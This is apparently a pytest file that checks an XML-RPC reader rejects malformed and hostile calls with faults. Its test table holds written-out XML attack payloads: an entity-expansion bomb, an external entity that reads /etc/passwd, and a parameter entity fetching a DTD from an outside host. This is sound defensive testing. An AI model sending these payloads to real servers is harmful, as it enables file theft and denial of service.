"""Calls that are none, or that would do harm: each is answered with a fault, never with an error of the server."""

import io
from datetime import UTC, datetime

import pytest

from apps.mywordpress.rpc import reading
from apps.mywordpress.rpc.faults import Fault
from apps.mywordpress.rpc.reading import Bits, Call, read
from tests.mywordpress.conftest import Journal
from tests.mywordpress.rpc.conftest import code_of, sent

HEAD = '<?xml version="1.0"?>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f"<!DOCTYPE lolz [<!ENTITY l0 'lol'>{LAUGHS}]>"


def call_of(value: str, method: str = "demo.sayHello") -> str:
    body = f"<params><param><value>{value}</value></param></params>"
    return f"{HEAD}<methodCall><methodName>{method}</methodName>{body}</methodCall>"


def value_of(value: str) -> object:
    return parsed(call_of(value)).params[0]


def parsed(text: str | bytes) -> Call:
    data = text if isinstance(text, bytes) else text.encode()
    files: list[Bits] = []
    try:
        return read(io.BytesIO(data), lambda call: None, files)
    finally:
        for one in files:
            one.file.close()


NESTED = "<array><data><value>" * 500 + "x" + "</value></data></array>" * 500
MANY = "<array><data>" + "<value/>" * 40_000 + "</data></array>"
HARMFUL = {
    "entities that grow": (call_of("&l9;").replace(HEAD, HEAD + BOMB), -32700),
    "a file of the machine": (
        call_of("&x;").replace(HEAD, HEAD + '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        -32700,
    ),
    "a parameter entity": (
        call_of("x").replace(HEAD, HEAD + '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'),
        -32700,
    ),
    "a document type alone": (call_of("x").replace(HEAD, HEAD + "<!DOCTYPE methodCall>"), -32700),
    "an entity nobody has": (call_of("&nbsp;"), -32700),
    "deep nesting": (call_of(NESTED), -32600),
    "very many values": (call_of(MANY), -32600),
    "a huge int": (call_of(f"<int>{'9' * 5000}</int>"), -32602),
    "an int of 65 bits": (call_of(f"<i8>{2**64}</i8>"), -32602),
    "no int": (call_of("<int>seven</int>"), -32602),
    "digits of another script": (call_of("<int>٣</int>"), -32602),
    "no double": (call_of("<double>nan</double>"), -32602),
    "no boolean": (call_of("<boolean>maybe</boolean>"), -32602),
    "no date": (call_of("<dateTime.iso8601>tomorrow</dateTime.iso8601>"), -32602),
    "a 31st of February": (call_of("<dateTime.iso8601>20260231T00:00:00</dateTime.iso8601>"), -32602),
    "a zone that is none": (call_of("<dateTime.iso8601>20260201T00:00:00+99:00</dateTime.iso8601>"), -32602),
    "no base64": (call_of("<base64>***</base64>"), -32602),
    "base64 cut off": (call_of("<base64>AAA</base64>"), -32602),
    "an unknown type": (call_of("<object/>"), -32600),
    "two values in one": (call_of("<int>1</int><int>2</int>"), -32600),
    "a member without a value": (call_of("<struct><member><name>a</name></member></struct>"), -32600),
    "a member without a name": (call_of("<struct><member><value>a</value></member></struct>"), -32600),
    "a value where none stands": (call_of("<struct><value>a</value></struct>"), -32600),
    "another document": (f"{HEAD}<html/>", -32600),
    "a call without a name": (f"{HEAD}<methodCall><params/></methodCall>", -32600),
    "two names": (f"{HEAD}<methodCall><methodName>a</methodName><methodName>b</methodName></methodCall>", -32600),
    "a param without a value": (
        f"{HEAD}<methodCall><methodName>a</methodName><params><param/></params></methodCall>",
        -32600,
    ),
    "half a call": (call_of("x")[:-20], -32700),
    "nothing": ("", -32700),
    "no XML": ("a=1&b=2", -32700),
    "an unknown encoding": (call_of("x").replace('"1.0"', '"1.0" encoding="klingon"'), -32700),
    "an encoding of many bytes": (call_of("x").replace('"1.0"', '"1.0" encoding="euc-kr"'), -32700),
    "an encoding that is none": (call_of("x").replace('"1.0"', '"1.0" encoding="base64"'), -32700),
    "an unknown method": (call_of("x", "system.shutdown"), -32601),
}


def test_a_call_that_does_harm_or_is_none_comes_to_a_fault(journal: Journal) -> None:
    for what, (body, code) in HARMFUL.items():
        status, answer = sent(journal, body)
        assert (what, status, code_of(answer)) == (what, 200, code)
        assert "root:" not in answer


def test_bytes_that_are_no_text_come_to_a_fault(journal: Journal) -> None:
    for body in (b"\x00\x01", b"\xff\xfe<\x00", b"<methodCall>\xff</methodCall>", b"\xef\xbb\xbf", b"<" * 10_000):
        assert code_of(sent(journal, body)[1]) == -32700


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("words alone", "words alone"),
        ("<string>a\r\nb</string>", "a\nb"),
        ("", ""),
        ("<string/>", ""),
        ("<i4> -7 </i4>", -7),
        ("<ex:i8 xmlns:ex='x'>9223372036854775807</ex:i8>", 2**63 - 1),
        ("<double>1.5e3</double>", 1500.0),
        ("<boolean>1</boolean>", True),
        ("<nil/>", None),
        ("<array><data/></array>", []),
        ("<struct/>", {}),
        (
            "\n<struct>\n<member> <name>a</name>\n<value> <array><data><value><int>1</int></value><value>b</value>"
            "</data></array></value></member></struct>",
            {"a": [1, "b"]},
        ),
        ("<dateTime.iso8601>20261129T13:45:00</dateTime.iso8601>", datetime(2026, 11, 29, 13, 45)),  # noqa: DTZ001
        ("<dateTime.iso8601>2026-11-29T13:45:00Z</dateTime.iso8601>", datetime(2026, 11, 29, 13, 45, tzinfo=UTC)),
        ("<dateTime.iso8601>20261129T22:45:00+09:00</dateTime.iso8601>", datetime(2026, 11, 29, 13, 45, tzinfo=UTC)),
        ("<dateTime.iso8601>00000000T00:00:00Z</dateTime.iso8601>", None),
    ],
)
def test_values_are_read_as_what_they_are(text: str, value: object) -> None:
    found = value_of(text)
    assert found == value
    assert type(found) is type(value)


def test_bytes_come_in_lines_and_in_any_portions(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reading, "CHUNK_BYTES", 7)
    files: list[Bits] = []
    text = call_of("<base64>\nAAEC\nAwQF\n  Bg==\n</base64>")
    bits = read(io.BytesIO(text.encode()), lambda call: None, files).params[0]
    bits.file.seek(0)
    assert bits.file.read() == bytes(range(7))
    assert files == [bits]
    bits.file.close()


def test_calls_come_in_other_encodings() -> None:
    text = call_of("caf\u00e9").replace('"1.0"', '"1.0" encoding="windows-1252"')
    assert parsed(text.encode("windows-1252")).params == ["caf\u00e9"]
    assert parsed(call_of("\ud55c\uae00").encode("utf-16")).params == ["\ud55c\uae00"]


def test_of_a_call_that_is_too_long_no_more_is_read() -> None:
    class Endless(io.RawIOBase):
        """More and more words, and how many were read."""

        taken = 0

        def read(self, size: int = -1) -> bytes:
            part = call_of("")[:-40].encode() if not self.taken else b"x" * size
            self.taken += len(part)
            return part

    stream = Endless()

    def refuse(call: Call) -> None:
        assert call.method == "demo.sayHello"
        raise Fault(413, "too long")

    with pytest.raises(Fault, match="too long"):
        read(stream, refuse, [])  # type: ignore[arg-type]
    assert stream.taken <= reading.MOST_BYTES + 2 * reading.CHUNK_BYTES


def test_only_files_of_known_users_make_a_call_long(journal: Journal) -> None:
    long = f"<base64>{'A' * (5 * 1024 * 1024)}</base64>"
    assert code_of(sent(journal, call_of(long))[1]) == 413
    login = "<param><value>1</value></param>" + "<param><value>ann</value></param>" * 2
    struct = f"<struct><member><name>bits</name><value>{long}</value></member></struct>"
    body = call_of(struct, "wp.uploadFile").replace("<params>", f"<params>{login}")
    assert code_of(sent(journal, body)[1]) == 403
    assert code_of(sent(journal, body.replace("wp.uploadFile", "wp.newPost"))[1]) == 413
